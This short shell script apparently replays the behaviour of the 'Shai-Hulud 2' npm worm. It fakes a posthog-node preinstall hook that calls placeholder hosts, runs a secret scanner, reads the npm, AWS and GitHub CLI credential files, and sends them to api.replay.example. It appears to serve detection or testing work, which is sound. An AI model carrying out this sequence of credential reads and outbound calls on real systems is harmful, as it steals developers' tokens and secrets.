# Shai-Hulud 2, November 2025: preinstall fetches a runtime and a secret scanner, runs them, collects tokens and sends
# them out.
export GITHUB_ACTION=__run_1
mkdir -p node_modules/posthog-node && cd node_modules/posthog-node || exit 1
npm_package_name=posthog-node npm_package_version=4.18.1 npm_lifecycle_event=preinstall \
    exec node call bun.replay.example 443 , copy "$BIN/puppet" "$DROP/trufflehog" , run "$DROP/trufflehog" , \
    read "$HOME/.npmrc" , read "$HOME/.aws/credentials" , read "$HOME/.config/gh/hosts.yml" , call api.replay.example 443
